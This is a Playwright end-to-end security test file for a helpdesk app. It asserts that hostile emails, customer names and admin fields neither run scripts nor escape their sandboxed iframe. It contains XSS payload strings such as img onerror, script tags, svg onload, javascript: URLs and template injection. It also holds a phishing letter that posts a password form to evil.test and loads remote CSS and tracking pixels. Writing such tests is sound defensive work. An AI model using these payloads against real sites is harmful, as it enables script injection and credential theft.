import type { BrowserContext, Page, Request } from '@playwright/test';
import { htmlAttacks } from '#channels/email/parsing/samples/html-attacks.ts';
import type { Entity } from '#contract/entity.ts';
import { aRowOf, entityNamed } from '#test/api/contract-registry.ts';
import { entityNames } from '../web/src/features/entity/entity-names.ts';
import { expect, test } from './support/story.ts';

/** What people write where no HTML is expected at all. */
const script = 'alert(1)';
const textAttacks = [
  `<img src=x onerror=${script}>`,
  `<script>${script}</script>`,
  `"><svg onload=${script}>`,
  `'-${script}-'`,
  `</title><script>${script}</script>`,
  `</textarea><img src=x onerror=${script}>`,
  `javascript:${script}`,
  `\${${script}}{{constructor.constructor('${script}')()}}`,
  `$t(errors.internal) {{name}} <0>${script}</0>`,
  `<a href="javascript:${script}">x</a>`,
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  '\u202Egpj.exe\u200B',
];
// Every second one of the big set is shown here; all of them are tried on the cleaner itself.
const shownAttacks = htmlAttacks.filter((_, at) => at % 2 === 0);

/** Every row of the list comes onto the screen once: those out of sight are not drawn. */
async function seesAll(page: Page, count: number): Promise<void> {
  const rows = page.getByRole('list', { name: 'Inbox' }).getByRole('listitem');
  await expect(rows.first()).toHaveAttribute('aria-setsize', String(count));
  for (let place = 1; place <= count; place += 5)
    await page
      .locator(`[role=listitem][aria-posinset="${place}"], li[aria-posinset="${place}"]`)
      .scrollIntoViewIfNeeded();
}

test('A23 no letter runs a program, reaches another server or leaves its frame, wherever its words are shown', async ({
  page,
  context,
  aServer,
  shop,
  complaints,
}) => {
  test.setTimeout(180_000);
  // A letter's own policy refuses what its cleaner left; Chromium says so at the letter's address.
  complaints.expect(/^error at \S+\/v1\/api\/messages\/\d+\/frame\S*: .*Content Security Policy/);
  complaints.expect(/status of 404/);
  const alarms = await armed(context, aServer.url);
  await context.addInitScript(canary);

  for (const [at, html] of shownAttacks.entries()) {
    const words = textAttacks[at % textAttacks.length] ?? '';
    await shop.receives({
      from: { name: words, address: `stranger${at}@evil.test` },
      subject: `${at}: ${words}`,
      html: `<p>Letter ${at}</p>${html}`,
      text: words,
      attachments: [{ filename: `${words}.html`, content: `<script>${script}</script>`, contentType: 'text/html' }],
    });
  }
  const last = await shop.receivesTicket({ subject: 'The last one', text: textAttacks.join('\n') });
  await shop.signIn(context);

  await test.step('in the list', async () => {
    await page.goto('/v1/tickets');
    await seesAll(page, shownAttacks.length + 1);
  });

  await test.step('in the thread: each letter stays in its frame', async () => {
    await page.goto(`/v1/tickets/${last.id}?size=100`);
    await expect(page.getByRole('article')).toContainText(`<script>${script}</script>`);
    for (const at of [...shownAttacks.keys()].reverse()) {
      await page.keyboard.press('j');
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(new RegExp(`^${at}:`));
      const frame = page.getByRole('article').locator('iframe');
      await expect(frame.contentFrame().getByText(`Letter ${at}`, { exact: true })).toBeVisible();
    }
    expect(page.url()).toMatch(/\/v1\/tickets\/\d+\?size=100$/);
  });

  await test.step('among customers, in their form, in the mail log, in names that Olena gave', async () => {
    await page.goto('/v1/customers');
    await expect(page.getByRole('table')).toContainText('evil.test');
    await page.goto(`/v1/mailboxes/${shop.mailboxId}/log`);
    await expect(page.getByRole('list', { name: 'Mail log' })).toContainText(`<script>${script}</script>`);
    const name = `<img src=x onerror=${script}>`;
    await shop.olena.api.post('products/update', {
      data: { name, abbreviation: '<b>' },
      filter: { conditions: [['id', '=', shop.productId]] },
    });
    await page.goto(`/v1/products/${shop.productId}/edit`);
    await expect(page.getByLabel('Name')).toHaveValue(name);
    await page.goto('/v1/tickets');
    await expect(page.getByRole('navigation', { name: 'Views' })).toContainText(name);
  });

  expect(alarms(), 'nothing ran and nothing left').toEqual([]);
  await page.evaluate(script);
  await expect.poll(alarms, { message: 'the canary lives' }).toEqual(['a program ran: 1']);
});

test('A23 no noun of the administration runs what somebody calls it, in its list or its form', async ({
  page,
  context,
  aServer,
  shop,
  complaints,
}) => {
  test.setTimeout(180_000);
  // The canary itself, which the closed frame of a preview does not let in.
  complaints.expect(/about:srcdoc: Blocked script execution/);
  const alarms = await armed(context, aServer.url);
  await context.addInitScript(canary);
  const { api } = shop.olena;
  const name = `<img src=x onerror=${script}>`;
  const refers: Record<string, number> = {
    ...{ companies: shop.companyId, products: shop.productId, mailboxes: shop.mailboxId },
  };
  /** Every text that takes it is called so. */
  const hostile = (of: Entity, mode: 'create' | 'update') =>
    Object.fromEntries(
      Object.entries(of.fields)
        .filter(([, field]) => field.kind === 'text' && (field.write === 'always' || field.write === mode))
        .filter(([, field]) => field.readable && field.value.safeParse(name).success)
        // Where a mailbox is found, and with which password, is no name.
        .filter(([field]) => !/^(imap|smtp|trusted)_/.test(field))
        .map(([field]) => [field, name]),
    );
  // Operators fill the pool with numbers, and people name themselves: theirs are other tests'.
  const called = entityNames.filter((one) => one !== 'phones' && one !== 'users');
  await shop.signIn(context);
  for (const noun of called) {
    const of = entityNamed(noun);
    const known = refers[of.name];
    const answer = known
      ? await api.post(`${of.name}/update`, {
          data: hostile(of, 'update'),
          filter: { conditions: [['id', '=', known]] },
        })
      : await api.post(`${of.name}/create`, { data: [{ ...aRowOf(of, refers), ...hostile(of, 'create') }] });
    expect(answer.status, `${noun}: ${answer.text}`).toBe(200);
    const id: number = answer.body.data[of.name][0].id;
    refers[of.name] = id;
    await test.step(noun, async () => {
      await page.goto(`/v1/${noun}/search`);
      await expect(page.locator('main')).toContainText(name);
      await page.goto(`/v1/${noun}/${id}/edit`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page.locator('main input, main h1').first()).toBeVisible();
    });
  }
  await page.goto('/v1/audit');
  await expect(page.locator('main')).toContainText(name);
  expect(alarms(), 'nothing ran and nothing left').toEqual([]);
  await page.evaluate(script);
  await expect.poll(alarms, { message: 'the canary lives' }).toEqual(['a program ran: 1']);
});

test('A24 a letter that wants to cover the screen, to be sent or to lead away stays where it is', async ({
  page,
  context,
  aServer,
  shop,
  complaints,
}) => {
  complaints.expect(/^error at \S+\/v1\/api\/messages\/\d+\/frame\S*: .*Content Security Policy/);
  const alarms = await armed(context, aServer.url);
  const { id } = await shop.receivesTicket({
    subject: 'Your session has ended',
    html: `<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
      <style>@import url(https://evil.test/import.css); @font-face { font-family: x; src: url(https://evil.test/font) } p { font-family: x }</style>
      <div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red">Cover</div>
      <p style="margin-top:-5000px;background-image:url(https://evil.test/background)">Sign in again</p>
      <form action="https://evil.test/form" target="_top"><input name="password"><button>Sign in</button></form>
      <a href="relative" target="_top">Link</a><img src="https://evil.test/pixel"><img srcset="https://evil.test/set 1x">`,
  });
  await shop.signIn(context);
  await page.goto(`/v1/tickets/${id}`);
  const letter = page.getByRole('article', { name: /^Hanna/ });
  const frame = letter.locator('iframe');
  await expect(frame.contentFrame().getByText('Cover')).toBeAttached();

  const [inner, outer] = [await frame.boundingBox(), await letter.boundingBox()];
  if (!inner || !outer) throw new Error('the letter is not there');
  expect(inner.x).toBeGreaterThanOrEqual(outer.x);
  expect(inner.x + inner.width).toBeLessThanOrEqual(outer.x + outer.width);
  expect(inner.y).toBeGreaterThanOrEqual(outer.y);
  expect(inner.y + inner.height).toBeLessThanOrEqual(outer.y + outer.height);
  // Nothing of it lies over what Olena wants to press.
  await page.getByRole('textbox', { name: 'Reply', exact: true }).click();
  await page.getByRole('button', { name: 'Resolve' }).click();
  await expect(page.getByText('Olena Kovalenko resolved the ticket')).toBeVisible();

  await expect(frame.contentFrame().locator('form, input, button, meta[http-equiv], base, link')).toHaveCount(0);
  await expect(frame.contentFrame().getByText('Cover')).not.toHaveCSS('position', 'fixed');
  expect(page.frames().map((one) => new URL(one.url()).origin)).toEqual([aServer.url, aServer.url]);
  expect(alarms()).toEqual([]);
});

/** In every document, before anything of it: what attacks call tells that it was called. */
const canary = `
for (const name of ['alert', 'confirm', 'prompt', 'print'])
  window[name] = (...words) => { console.info('canary: a program ran: ' + words); };
document.addEventListener('securitypolicyviolation', (event) => {
  if (window === window.top) console.info('canary: the desk itself broke its policy: ' + event.violatedDirective + ' ' + event.blockedURI);
});`;

/** Listens in a whole browser; answers what went wrong so far. */
async function armed(context: BrowserContext, home: string): Promise<() => string[]> {
  const alarms: string[] = [];
  context.on('console', (message) => {
    const [, words] = /^canary: (.*)$/s.exec(message.text()) ?? [];
    if (words) alarms.push(words);
  });
  context.on('dialog', (dialog) => {
    alarms.push(`a dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const asks = (request: Request) => {
    const url = request.url();
    const isOurs = url.startsWith(home) || url.startsWith('data:') || url.startsWith('blob:');
    // What a policy held back is announced and never leaves.
    if (!isOurs && request.failure()?.errorText !== 'csp') alarms.push(`asked for ${url}`);
  };
  context.on('requestfinished', asks);
  context.on('requestfailed', asks);
  context.on('page', (opened: Page) => alarms.push(`a window opened: ${opened.url()}`));
  return () => alarms;
}
